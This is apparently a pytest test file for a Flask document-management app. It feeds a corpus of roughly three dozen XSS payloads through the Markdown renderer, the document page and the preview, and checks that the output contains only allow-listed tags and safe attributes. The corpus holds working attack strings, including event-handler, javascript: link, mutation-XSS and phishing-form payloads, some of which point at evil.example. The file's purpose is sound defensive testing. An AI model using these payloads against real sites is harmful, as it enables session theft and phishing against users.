"""An XSS corpus: every payload must render inert, through the renderer and through the pages.

"Inert" is checked on the parsed output, not by substring: only allow-listed tags, no event
handler or style attribute, and no link or image whose URL could run code.
"""

from __future__ import annotations

import re

import pytest
from flask import Flask
from flask.testing import FlaskClient

from tests.actors import AS_EDITOR
from tests.conftest import csrf_token, login
from tests.html_reader import parse
from zhengai_docs.catalogue.codes import document_code
from zhengai_docs.render.html import render_markdown

SAFE_TAGS = {
    "a", "abbr", "b", "blockquote", "br", "code", "del", "div", "em", "h1", "h2", "h3", "h4", "h5", "h6",
    "hr", "i", "img", "ins", "li", "ol", "p", "pre", "s", "span", "strong", "sub", "sup",
    "table", "tbody", "td", "tfoot", "th", "thead", "tr", "ul",
}  # fmt: skip
SAFE_CLASSES = {"language-mermaid", "language-text"}

PAYLOADS = {
    "script-tag": "<script>alert(1)</script>",
    "script-uppercase": "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "img-onerror": "<img src=x onerror=alert(1)>",
    "svg-onload": "<svg onload=alert(1)>",
    "svg-script": "<svg><script>alert(1)</script></svg>",
    "details-ontoggle": "<details open ontoggle=alert(1)>x</details>",
    "body-onload": "<body onload=alert(1)>",
    "md-link-javascript": "[点我](javascript:alert(1))",
    "md-link-mixed-case": "[点我](JaVaScRiPt:alert(1))",
    "md-link-entity": "[点我](&#106;avascript:alert(1))",
    "md-link-vbscript": "[点我](vbscript:msgbox(1))",
    "md-link-data": "[点我](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "md-reference-link": "[点我][1]\n\n[1]: javascript:alert(1)",
    "md-autolink": "<javascript:alert(1)>",
    "md-image-javascript": "![图](javascript:alert(1))",
    "md-image-attribute-break": '![图](x" onerror="alert(1))',
    "md-image-data-svg": "![图](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)",
    "html-link-javascript": '<a href="javascript:alert(1)">x</a>',
    "html-link-spaced": '<a href="  java\tscript:alert(1)">x</a>',
    "html-link-data": '<a href="data:text/html,<script>alert(1)</script>">x</a>',
    "img-srcset": '<img src="x.png" srcset="javascript:alert(1)">',
    "style-attribute": '<p style="position:fixed;top:0;left:0;width:100%;height:100%">覆盖全页</p>',
    "style-url": '<div style="background:url(javascript:alert(1))">x</div>',
    "style-element": "<style>body{display:none}</style>",
    "class-hijack": '<span class="flash flash-success">伪造的成功提示</span>',
    "iframe": '<iframe src="https://evil.example"></iframe>',
    "object-embed": '<object data="x.swf"></object><embed src="x.swf">',
    "form-phishing": '<form action="https://evil.example"><input name=password></form>',
    "meta-refresh": '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
    "base-href": '<base href="https://evil.example/">',
    "mutation-math": "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "raw-html-block": "<div>\n<script>alert(1)</script>\n</div>\n\n正文",
    "heading-with-html": "## 总则<img src=x onerror=alert(1)>",
    "mermaid-with-script": "```mermaid\nflowchart TD\n  A[开始]-->B[<script>alert(1)</script>]\n```",
    "comment-smuggling": "<!-- --><script>alert(1)</script><!-- -->",
    "template-injection": "{{ config.SECRET_KEY }} {% raw %}x{% endraw %}",
}


# The parser (libxml2, like a browser) adds <html>, <head> and <body> around any fragment, but it
# drops a written <body onload=…> whose attributes a browser would merge into the page's own
# <body>, and everything after a written </html>: such tags are problems wherever they appear.
_DOCUMENT_TAGS = re.compile(r"<(/?(?:html|head|body))(?=[\s/>])", re.IGNORECASE)


def _attribute_problems(name: str, value: str) -> list[str]:
    problems = []
    if name.startswith("on") or name in ("style", "srcset", "formaction", "action"):
        problems.append(f"attribute {name}")
    if name in ("href", "src") and _scheme(value) not in (None, "http", "https", "mailto"):
        problems.append(f"{name}={value!r}")
    if name == "class" and not set(value.split()) <= SAFE_CLASSES:
        problems.append(f"class={value!r}")
    return problems


def _scheme(url: str) -> str | None:
    """The scheme a browser would see: it strips outer whitespace and drops tabs and newlines."""
    cleaned = re.sub(r"[\t\n\r]", "", re.sub(r"^[\x00-\x20]+|[\x00-\x20]+$", "", url)).lower()
    match = re.match(r"([a-z][a-z0-9+.-]*):", cleaned)
    return match.group(1) if match else None


def inert_problems(html: str) -> list[str]:
    """Every element outside the allow-list and every attribute that could run code or pass for
    the app's own interface, in the tree a browser builds from `html`."""
    problems = [f"tag <{written.lower()}>" for written in _DOCUMENT_TAGS.findall(html)]
    for element in parse(html).iter():
        if not isinstance(element.tag, str):
            continue  # comments
        if element.tag not in SAFE_TAGS | {"html", "head", "body"}:
            problems.append(f"tag <{element.tag}>")
        for name, value in element.attrib.items():
            problems += _attribute_problems(name, value)
    return problems


@pytest.mark.parametrize("payload", PAYLOADS.values(), ids=PAYLOADS.keys())
def test_payload_renders_inert(payload: str) -> None:
    assert inert_problems(render_markdown(payload).html) == []


def test_the_inspector_itself_catches_each_kind_of_danger() -> None:
    """Guard against a checker that cannot fail."""
    assert inert_problems('<img src="x" onerror="alert(1)">') == ["attribute onerror"]
    assert inert_problems('<a href="javascript:alert(1)">x</a>') == ["href='javascript:alert(1)'"]
    assert inert_problems("<script></script>") == ["tag <script>"]
    assert inert_problems('<a href=" \x01java\tscript:alert(1)">x</a>') == ["href=' \\x01java\\tscript:alert(1)'"]
    assert inert_problems('<p style="x">') == ["attribute style"]
    assert inert_problems('<span class="flash">') == ["class='flash'"]
    # what the parser drops and a browser keeps: the onload it would merge into the page's <body>,
    # the image after a written </html>
    assert inert_problems("<p>正文</p><body onload=alert(1)>") == ["tag <body>"]
    assert inert_problems("<p>正文</p></html><img src=x onerror=alert(1)>")[:1] == ["tag </html>"]


def test_payloads_stay_inert_on_the_document_page_and_in_the_preview(app: Flask, client: FlaskClient) -> None:
    library = app.extensions["zhengai"].library
    loaded = library.load(document_code("A101Z"))
    body = "\n\n".join(PAYLOADS.values()) + "\n"
    library.save(loaded.document.with_changes(body=body), actor=AS_EDITOR, message="XSS 语料", base=loaded.version.commit)
    login(client, "jiaowu")
    page = client.get("/documents/A101Z").get_data(as_text=True)
    article = page[page.index('<article class="document">') : page.index("</article>")]
    content = re.sub(r'<article class="document">\s*(<h1 class="doc-title">.*?</h1>)?', "", article, count=1, flags=re.S)
    content = re.sub(r'<p class="doc-issue">.*?</p>', "", content, count=1, flags=re.S)  # the page's 文号 line under the title
    assert inert_problems(content) == []
    token = csrf_token(client, "/documents/A101Z/edit")
    preview = client.post("/preview", json={"body": body}, headers={"X-CSRFToken": token}).get_json()["html"]
    assert inert_problems(preview) == []


def test_titles_and_metadata_are_escaped(app: Flask, client: FlaskClient) -> None:
    library = app.extensions["zhengai"].library
    loaded = library.load(document_code("A101Z"))
    hostile = loaded.document.with_changes(title="<script>alert(1)</script>标题", doc_number='"><img src=x onerror=alert(1)>')
    library.save(hostile, actor=AS_EDITOR, message="<b>说明</b>", base=loaded.version.commit)
    login(client, "duzhe")
    for url in ("/documents/A101Z", "/documents/A101Z/history", "/items/A101", "/catalogue/A"):
        html = client.get(url).get_data(as_text=True)
        assert "<script>alert(1)" not in html and "<img src=x" not in html and "<b>说明</b>" not in html, url
        assert "&lt;script&gt;alert(1)&lt;/script&gt;标题" in html or url == "/documents/A101Z/history", url
